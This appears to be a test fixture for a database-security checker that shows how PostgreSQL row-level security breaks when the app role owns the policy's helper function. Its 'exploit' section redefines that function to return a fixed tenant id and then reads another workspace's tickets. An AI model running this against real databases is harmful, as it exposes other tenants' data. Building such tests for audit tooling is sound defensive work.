-- The helper of the policies belongs to the app role, who can put another in its place.
-- object: helpers.workspace()
-- object: crm.tickets
-- object: role:{app}
-- base: other-schema
--- setup
CREATE SCHEMA helpers;
GRANT USAGE, CREATE ON SCHEMA helpers TO {app};
CREATE FUNCTION helpers.workspace() RETURNS bigint LANGUAGE sql STABLE
    AS $$ SELECT NULLIF(current_setting('app.workspace', true), '')::bigint $$;
DROP POLICY workspace ON crm.tickets;
CREATE POLICY workspace ON crm.tickets USING (workspace_id = (SELECT helpers.workspace()));
--- leak
RESET ROLE;
ALTER FUNCTION helpers.workspace() OWNER TO {app};
--- exploit
CREATE OR REPLACE FUNCTION helpers.workspace() RETURNS bigint LANGUAGE sql STABLE AS 'SELECT 2::bigint';
SELECT id FROM crm.tickets WHERE workspace_id = {B};
